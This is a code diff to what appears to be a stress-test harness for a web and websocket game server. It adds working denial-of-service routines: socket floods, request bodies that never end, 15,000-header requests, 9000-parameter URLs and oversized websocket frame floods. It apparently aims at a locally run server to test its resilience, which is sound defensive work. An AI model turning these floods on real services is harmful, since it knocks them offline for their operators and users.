@@ -11,6 +11,7 @@ import threading
 import time
 from collections.abc import Callable
 from contextlib import suppress
+from functools import partial
 from itertools import count
 from random import Random
 from typing import Any
@@ -24,6 +25,8 @@ from undertow.plugins import plugins
 
 HANDS = 24
 """So many connections at once that ask over HTTP."""
+SOCKETS = 90
+"""So many sockets at once."""
 MANY = 1000
 """So many connections that are only opened."""
 
@@ -120,6 +123,41 @@ def _flood(make: Callable[[int], bytes], who: str = "spectator", read: bool = Fa
     return attack
 
 
+def _crowd(make: Callable[[int], bytes]) -> Attack:
+    """As `_flood`, on as many sockets at once as one address may have, with all the keys it has."""
+
+    def attack(target: Target, until: float) -> str:
+        sent = came = 0
+        lock = threading.Lock()
+        keys = [(table, who) for table in target.tables for who in (*table["seats"], "spectator")]
+
+        def hand(table: dict[str, Any], who: str) -> None:
+            nonlocal sent, came
+            while time.monotonic() < until:
+                with suppress(OSError):
+                    there = socket.create_connection((HERE, target.port), 5, (target.source, 0))
+                    with there:
+                        there.settimeout(1)
+                        _greet(there, table, who)
+                        threading.Thread(target=_drain, args=(there,), daemon=True).start()
+                        with lock:
+                            came += 1
+                        for n in count():
+                            block = make(n)
+                            there.sendall(block)
+                            with lock:
+                                sent += len(block)
+                            if time.monotonic() > until:
+                                break
+
+        hands: list[Callable[[], None]] = []
+        hands += [partial(hand, *keys[n % len(keys)]) for n in range(SOCKETS)]
+        _together(hands, until)
+        return f"{sent / 1e6:.1f} MB on {came} sockets"
+
+    return attack
+
+
 def _drain(there: socket.socket) -> None:
     with suppress(OSError):
         while there.recv(2**20):
@@ -143,6 +181,42 @@ def _opened(start: bytes) -> Attack:
         return f"{opened} connections"
 
     return attack
+
+
+def _sending(head: bytes, block: bytes) -> Attack:
+    """Requests whose bodies never end, on many connections; begin again where one is closed."""
+
+    def attack(target: Target, until: float) -> str:
+        sent = came = 0
+        lock = threading.Lock()
+
+        def hand() -> None:
+            nonlocal sent, came
+            while time.monotonic() < until:
+                with suppress(OSError):
+                    there = socket.create_connection((HERE, target.port), 5, (target.source, 0))
+                    with there:
+                        there.settimeout(1)
+                        there.sendall(head)
+                        with lock:
+                            came += 1
+                        while time.monotonic() < until:
+                            there.sendall(block)
+                            with lock:
+                                sent += len(block)
+
+        _together([hand] * HANDS, until)
+        return f"{sent / 1e6:.1f} MB on {came} connections"
+
+    return attack
+
+
+def _together(hands: list[Callable[[], None]], until: float) -> None:
+    threads = [threading.Thread(target=hand, daemon=True) for hand in hands]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join(max(0.1, until + 2 - time.monotonic()))
 
 
 def _coming_back(target: Target, until: float) -> str:
@@ -336,7 +410,22 @@ def _characters(target: Target, rng: Random) -> Ask:
     return "POST", f"{path}/characters?seat={seat}&check=true", table["host"], data
 
 
+def _queries(target: Target, rng: Random) -> Ask:
+    """Addresses as long as may be, of many small parts."""
+    table, path = _some(target, rng)
+    return "GET", path + "/log?" + "&".join(f"{n:x}=" for n in range(9000)), table["host"], None
+
+
 Attack = Callable[[Target, float], str]
+HEAD = b"POST /api/v1/import HTTP/1.1\r\nHost: localhost\r\n"
+SMALL_CHUNKS = HEAD + b"Transfer-Encoding: chunked\r\n\r\n"
+MANY_HEADERS = b"GET / HTTP/1.1\r\nHost: localhost\r\n" + b"a:\r\n" * 15_000 + b"\r\n"
+LARGE = _frame(b"x" * 2**14, Opcode.TEXT, False) + _frame(b"x" * 2**14, Opcode.CONT, False) * 60
+PARTS = (
+    _frame(b"{", Opcode.TEXT, False)
+    + _frame(b" ", Opcode.CONT, False) * 60
+    + _frame(b'"type":"ping","t":1}', Opcode.CONT)
+) * 50
 BAD = _frame(b"{", Opcode.TEXT) * 5000
 PINGS = _frame(b"x" * 125, Opcode.PING) * 500
 ASKS = _frame(b'{"type":"ping","t":1}', Opcode.TEXT) * 1000
@@ -404,6 +493,12 @@ ATTACKS: dict[str, Attack] = {
     "asks": _flood(lambda n: ASKS),
     "talk": _flood(_talking, "seat", read=True),
     "here": _flood(_here, "seat", read=True),
+    "crowd": _crowd(_here),
+    "parts": _crowd(lambda n: PARTS),
+    "frames": _flood(lambda n: LARGE, "seat"),
+    "chunks": _sending(SMALL_CHUNKS, b"1\r\nx\r\n" * 10_000),
+    "headers": _sending(b"", MANY_HEADERS),
+    "queries": _asking(_queries),
     "half-heads": _opened(b"GET /api/tables/%s HTTP/1.1\r\nHost: localhost\r\nX-Slow: "),
     "no-hello": _opened(
         b"GET /api/live/%s HTTP/1.1\r\nHost: localhost\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
